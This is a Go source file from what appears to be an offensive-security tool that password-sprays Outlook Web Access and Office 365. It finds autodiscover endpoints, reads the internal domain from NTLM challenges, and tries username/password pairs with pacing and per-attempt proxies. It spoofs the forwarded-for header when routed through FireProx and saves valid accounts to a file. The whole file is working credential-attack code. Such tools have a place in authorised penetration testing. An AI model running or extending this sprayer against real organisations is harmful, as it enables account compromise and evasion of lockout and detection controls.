package owa

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"strings"
	"sync"
	"time"

	"github.com/CodeMonkeyCybersecurity/owaspray/internal/httpclient"
	"github.com/CodeMonkeyCybersecurity/owaspray/internal/logger"
	"github.com/CodeMonkeyCybersecurity/owaspray/internal/telemetry"
	"github.com/CodeMonkeyCybersecurity/owaspray/pkg/ntlm"
	"github.com/CodeMonkeyCybersecurity/owaspray/pkg/results"
)

const (
	fireproxMarker = "amazonaws.com/fireprox"
	fireproxHeader = "X-My-X-Forwarded-For"
)

// Options configure a Sprayer.
type Options struct {
	Target     Target
	ForceCloud bool

	HTTP      *httpclient.Factory
	Sink      results.Sink
	Logger    *logger.Logger
	Telemetry telemetry.Recorder
	Endpoints Endpoints

	// DNS enables informational MX/CNAME lookups during recon when set.
	DNS *DNSRecon
}

// ReconResult summarizes what recon learned about the target.
type ReconResult struct {
	Target         string              `json:"target" yaml:"target"`
	Endpoint       string              `json:"endpoint" yaml:"endpoint"`
	Tenancy        Tenancy             `json:"tenancy" yaml:"tenancy"`
	Cloud          bool                `json:"cloud" yaml:"cloud"`
	ForcedCloud    bool                `json:"forced_cloud,omitempty" yaml:"forced_cloud,omitempty"`
	InternalDomain string              `json:"internal_domain,omitempty" yaml:"internal_domain,omitempty"`
	Challenge      *ntlm.ChallengeInfo `json:"challenge,omitempty" yaml:"challenge,omitempty"`
	DNS            *DNSInfo            `json:"dns,omitempty" yaml:"dns,omitempty"`
}

// AttemptOptions pace a single authentication attempt.
type AttemptOptions struct {
	// Delay is slept after the attempt whatever its outcome.
	Delay time.Duration
	// Proxy overrides the transport proxy for this attempt only.
	Proxy string
}

// Sprayer holds the recon state for one target and the credentials found so
// far.
type Sprayer struct {
	opts      Options
	logger    *logger.Logger
	telemetry telemetry.Recorder

	reconOnce sync.Once
	reconErr  error
	recon     ReconResult

	mu      sync.Mutex
	records []CredentialResult
	seen    map[string]struct{}
}

// New validates opts without touching the network.
func New(opts Options) (*Sprayer, error) {
	if opts.Target.Domain == "" && opts.Target.URL == "" {
		return nil, ErrEmptyTarget
	}
	if opts.Target.Domain != "" && opts.Target.URL != "" {
		return nil, fmt.Errorf("target must be a domain or a URL, not both")
	}
	if opts.HTTP == nil {
		factory, err := httpclient.NewFactory(httpclient.DefaultConfig())
		if err != nil {
			return nil, err
		}
		opts.HTTP = factory
	}
	if opts.Sink == nil {
		opts.Sink = results.NewFileSink("owa_valid_accounts.txt")
	}
	if opts.Logger == nil {
		opts.Logger = logger.NewNop()
	}
	if opts.Telemetry == nil {
		opts.Telemetry = telemetry.NewNoop()
	}
	opts.Endpoints = opts.Endpoints.withDefaults()

	return &Sprayer{
		opts:      opts,
		logger:    opts.Logger.WithComponent("owa").WithTarget(opts.Target.String()),
		telemetry: opts.Telemetry,
		seen:      make(map[string]struct{}),
	}, nil
}

// Open builds a Sprayer and runs recon against its target.
func Open(ctx context.Context, opts Options) (*Sprayer, error) {
	s, err := New(opts)
	if err != nil {
		return nil, err
	}
	if _, err := s.Recon(ctx); err != nil {
		return nil, err
	}
	return s, nil
}

// Recon resolves the endpoint and tenancy. It runs once; later calls return
// the first result.
func (s *Sprayer) Recon(ctx context.Context) (*ReconResult, error) {
	s.reconOnce.Do(func() {
		s.reconErr = s.runRecon(logger.WithLogger(ctx, s.logger))
	})
	if s.reconErr != nil {
		return nil, s.reconErr
	}
	result := s.recon
	return &result, nil
}

func (s *Sprayer) runRecon(ctx context.Context) (err error) {
	start := time.Now()
	ctx, span := s.logger.StartOperation(ctx, "owa.recon", "target", s.opts.Target.String())
	defer func() {
		s.logger.FinishOperation(ctx, span, "owa.recon", start, err)
	}()

	client := s.opts.HTTP.Client()
	defer client.CloseIdleConnections()

	target := s.opts.Target
	r := ReconResult{Target: target.String(), Tenancy: TenancyUnknown}

	if target.IsURL() {
		r.Endpoint = target.URL
		s.logger.Infow(fmt.Sprintf("Using '%s' as URL", target.URL), "status", logger.StatusInfo)
	} else {
		s.logger.Infow("Trying to find autodiscover URL", "status", logger.StatusInfo)

		endpoint, found := ResolveEndpoint(ctx, client, target.Domain)
		if found {
			r.Endpoint = endpoint
			s.logger.Goodw("Using OWA autodiscover URL", "url", endpoint)
		}

		tenancy, err := ClassifyTenancy(ctx, client, s.opts.Endpoints.OpenIDURL(target.Domain))
		if err != nil {
			s.logger.Warnw("Could not determine tenancy, assuming on-premises", "error", err)
		}
		r.Tenancy = tenancy

		switch tenancy {
		case TenancyOnPrem:
			s.logger.Goodw("OWA domain appears to be hosted internally")
		case TenancyCloud:
			r.Endpoint = s.opts.Endpoints.CloudAutodiscover
			r.Cloud = true
			s.logger.Infow("OWA domain appears to be hosted on Office365", "status", logger.StatusInfo, "url", r.Endpoint)
		}

		if r.Endpoint == "" {
			s.telemetry.RecordRecon(string(r.Tenancy), false)
			return fmt.Errorf("%w for %s", ErrNoEndpoint, target.Domain)
		}

		info, err := ProbeChallenge(ctx, client, r.Endpoint)
		if info != nil {
			r.Challenge = info
			r.InternalDomain = info.NetBIOSDomainName
		}
		if err != nil {
			s.logger.Failw("Error parsing internal domain name using OWA. This usually means OWA is being hosted on-prem or the target has a hybrid AD deployment",
				"error", err)
		} else {
			s.logger.Goodw("Got internal domain name using OWA", "internal_domain", r.InternalDomain)
		}

		if s.opts.DNS != nil {
			dnsInfo, err := s.opts.DNS.Lookup(ctx, target.Domain)
			if err != nil {
				s.logger.Warnw("DNS recon failed", "error", err)
			} else {
				r.DNS = dnsInfo
			}
		}
	}

	if s.opts.ForceCloud {
		r.Cloud = true
		r.ForcedCloud = true
	}

	s.telemetry.RecordRecon(string(r.Tenancy), true)
	s.recon = r
	return nil
}

// Endpoint returns the URL credentials are attempted against.
func (s *Sprayer) Endpoint() string { return s.recon.Endpoint }

// Cloud reports whether attempts use Office 365 Basic authentication.
func (s *Sprayer) Cloud() bool { return s.recon.Cloud }

// Tenancy is the classification from the identity endpoint.
func (s *Sprayer) Tenancy() Tenancy { return s.recon.Tenancy }

// InternalDomain is the NetBIOS domain from the NTLM challenge, if any.
func (s *Sprayer) InternalDomain() string { return s.recon.InternalDomain }

// Mode selects NTLM or Basic authentication for attempts.
func (s *Sprayer) Mode() Mode {
	if s.recon.Cloud {
		return ModeCloud
	}
	return ModeOnPrem
}

// Authenticate tries one credential and records it when it is valid. The
// delay in opts is always honored before returning unless ctx is cancelled.
func (s *Sprayer) Authenticate(ctx context.Context, cred Credential, opts AttemptOptions) Outcome {
	defer pause(ctx, opts.Delay)

	log := s.logger.WithUsername(cred.Username)

	if s.recon.Endpoint == "" {
		log.LogError(ctx, ErrNoEndpoint, "owa.authenticate")
		return TransportError
	}

	factory, err := s.opts.HTTP.WithProxy(opts.Proxy)
	if err != nil {
		log.Failw("Error during authentication", "error", err)
		return TransportError
	}

	mode := s.Mode()
	var client *http.Client
	if mode == ModeCloud {
		client = factory.Client()
	} else {
		client = factory.NTLMClient()
	}
	defer client.CloseIdleConnections()

	req, err := http.NewRequestWithContext(ctx, http.MethodGet, s.recon.Endpoint, nil)
	if err != nil {
		log.Failw("Error during authentication", "error", err)
		return TransportError
	}
	req.Header.Set("Content-Type", "text/xml")
	if strings.Contains(s.recon.Endpoint, fireproxMarker) {
		req.Header.Set(fireproxHeader, "127.0.0.1")
	}
	req.SetBasicAuth(cred.Username, cred.Password)

	start := time.Now()
	resp, err := client.Do(req)
	if err != nil {
		if errors.Is(err, context.Canceled) {
			log.Debugw("Authentication cancelled", "error", err)
		} else {
			log.Failw("Error during authentication", "error", err)
		}
		return TransportError
	}
	httpclient.CloseBody(resp)
	log.LogHTTPRequest(ctx, req.Method, s.recon.Endpoint, resp.StatusCode, time.Since(start), "mode", mode.String())

	outcome := Classify(resp.StatusCode, mode)
	switch outcome {
	case Valid:
		log.Goodw(fmt.Sprintf("Found credentials: %s", cred))
	case ValidBlocked:
		log.Goodw(fmt.Sprintf("Found credentials: %s - however cannot log in: please check manually (2FA, account locked...)", cred))
	default:
		log.Badw(fmt.Sprintf("Authentication failed: %s (Invalid credentials)", cred))
	}

	if outcome.Recorded() {
		s.record(CredentialResult{Username: cred.Username, Password: cred.Password, Outcome: outcome})
	}

	return outcome
}

func (s *Sprayer) record(r CredentialResult) {
	s.mu.Lock()
	defer s.mu.Unlock()

	line := r.String()
	if _, ok := s.seen[line]; ok {
		return
	}
	s.seen[line] = struct{}{}
	s.records = append(s.records, r)
}

// Results returns the recorded credentials in the order they were found.
func (s *Sprayer) Results() []CredentialResult {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]CredentialResult(nil), s.records...)
}

// Shutdown appends every recorded credential to the sink and returns how many
// were written. Records are cleared once written.
func (s *Sprayer) Shutdown(ctx context.Context) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()

	lines := make([]string, 0, len(s.records))
	for _, r := range s.records {
		lines = append(lines, r.String())
	}

	if err := s.opts.Sink.Append(lines); err != nil {
		s.logger.LogError(ctx, err, "owa.shutdown", "pending", len(lines))
		return 0, fmt.Errorf("failed to write results: %w", err)
	}

	s.records = nil
	s.seen = make(map[string]struct{})

	s.logger.Goodw(fmt.Sprintf("Dumped %d valid accounts to %s", len(lines), s.opts.Sink.Location()))
	return len(lines), nil
}

func pause(ctx context.Context, d time.Duration) {
	if d <= 0 {
		return
	}
	timer := time.NewTimer(d)
	defer timer.Stop()
	select {
	case <-ctx.Done():
	case <-timer.C:
	}
}
